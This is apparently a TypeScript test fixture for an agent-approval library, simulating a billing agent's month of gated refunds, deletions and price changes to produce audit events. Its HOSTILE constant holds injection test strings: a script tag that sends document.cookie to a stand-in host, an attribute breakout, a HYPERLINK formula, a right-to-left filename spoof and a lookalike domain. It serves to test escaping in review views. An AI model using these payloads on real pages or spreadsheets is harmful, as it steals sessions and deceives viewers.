import { type AuditEvent, group, type Principal, person, when } from '@gatewright/core'
import { reviewAccess } from '@gatewright/core/review'
import { attempt, fakeBroker, ISSUER, scene, settle } from '../../core/test/scene'

const named = (subject: string, name: string, groups: readonly string[] = ['ops']): Principal =>
  person(ISSUER, subject, { name, groups, assurance: { method: 'sso', authTime: 1_790_000_000_000 } })

/** Owns the agent. */
export const olga = named('00u1olga', 'Olga Orlova', ['ops', 'admins'])
const maria = named('00u2maria', 'María Núñez')
const jonas = named('00u3jonas', 'Jonas Lindqvist')
const eve = named('00u9eve', 'Eve Adler', ['sales'])

/** Texts that try to break out of a page, a sheet, or an eye. */
export const HOSTILE = {
  script: '</q><script>fetch("https://evil.test/?"+document.cookie)</script><img src=x onerror=alert(1)>',
  attribute: '" onmouseover="alert(1)" x=\'',
  formula: '=HYPERLINK("https://evil.test","click")',
  direction: 'invoice\u202Egnp.exe',
  looksLike: 'pаypal.example',
} as const

/** A month of a billing agent: each kind of ending once or twice, and some texts that mean harm. Always the same. */
export async function billingWorld(): Promise<readonly AuditEvent[]> {
  const broker = fakeBroker('postgres')
  const s = scene({
    agent: { id: 'billing-bot', name: 'Billing agent', owner: olga, model: 'opus-5' },
    reviewers: group('ops'),
    policy: [
      when('report.read').allow(),
      when('ledger.delete').deny('the ledger is append-only'),
      when('refund.issue').require({
        id: 'refunds',
        version: 3,
        reviewers: group('ops', { atLeast: 2 }),
        noteFor: 'both',
        within: '2h',
      }),
      when('mail.send').require({ id: 'mail', version: 1, reviewers: group('ops'), grantable: true }),
    ],
  })
  const tool = (action: string, parameters: readonly string[], run = s.effect) =>
    s.gate.requireApproval(run, { action, parameters: [...parameters] })
  const note = (text: string) => ({ note: text })

  for (const table of ['invoices', 'customers', 'dunning']) await tool('report.read', ['table'])(table)
  await attempt(tool('ledger.delete', ['entry'])('2026-0917')).ended

  // Two people, after the owner and somebody who was not asked had tried.
  const refund = tool('refund.issue', ['customer', 'amount', 'reason'])
  const first = attempt(
    s.gate.as({ onBehalfOf: maria, intent: 'The customer was charged twice.' }, () =>
      refund('C-10442', 12_450, HOSTILE.script),
    ),
  )
  const one = (await s.only()).id
  await s.approve(one, olga, note('mine, I know it is fine'))
  await s.approve(one, eve, note('why not'))
  await s.approve(one, maria, note('it is for me'))
  await s.approve(one, jonas, note('matched with the bank statement of 2026-10-02'))
  await s.clock.advance('7m')
  await s.approve(one, named('00u4priya', 'Priya Raman'), note(HOSTILE.attribute))
  await first.ended

  const second = attempt(refund('C-20001', 80, HOSTILE.formula))
  await s.reject((await s.only()).id, jonas, 'the customer withdrew the request')
  await second.ended
  const third = attempt(refund('C-30377', 990, HOSTILE.direction))
  await s.only()
  await s.clock.advance('3h')
  await third.ended

  const change = attempt(
    s.gate.requireApproval(s.effect, {
      action: 'price.change',
      parameters: ['plan', 'cents'],
      credentials: { db: broker },
    })('team', 4_900),
  )
  await s.approve((await s.only()).id, jonas, {
    ...note('one euro less, as agreed'),
    edits: [{ path: '/cents', value: 4_800 }],
  })
  await change.ended

  let finish = () => {}
  const closing = (..._: unknown[]) => new Promise<void>((resolve) => (finish = resolve))
  const stuck = attempt(
    s.gate.requireApproval(closing, {
      action: 'ledger.close',
      parameters: ['month', 'account'],
      executionTimeout: '10s',
      grace: '5s',
    })('2026-09', HOSTILE.looksLike),
  )
  const open = (await s.only()).id
  await s.approve(open, maria)
  await s.clock.advance('16s')
  await stuck.ended
  finish()
  await settle()
  await s.gate.reconcile(open, { by: jonas, note: 'the month is closed; checked in the ledger' })

  const grant = await reviewAccess(s.gate).grants.create(
    { action: 'mail.send', constraints: [{ path: '', any: true }], expiresIn: '8h', uses: 5 },
    maria,
  )
  await tool('mail.send', ['to'])('dunning@example.com')
  await tool('mail.send', ['to'])('reminder@example.com')
  await reviewAccess(s.gate).grants.revoke(grant.id, jonas, 'the run is over')
  await s.close()
  await settle()
  return s.audit.events
}
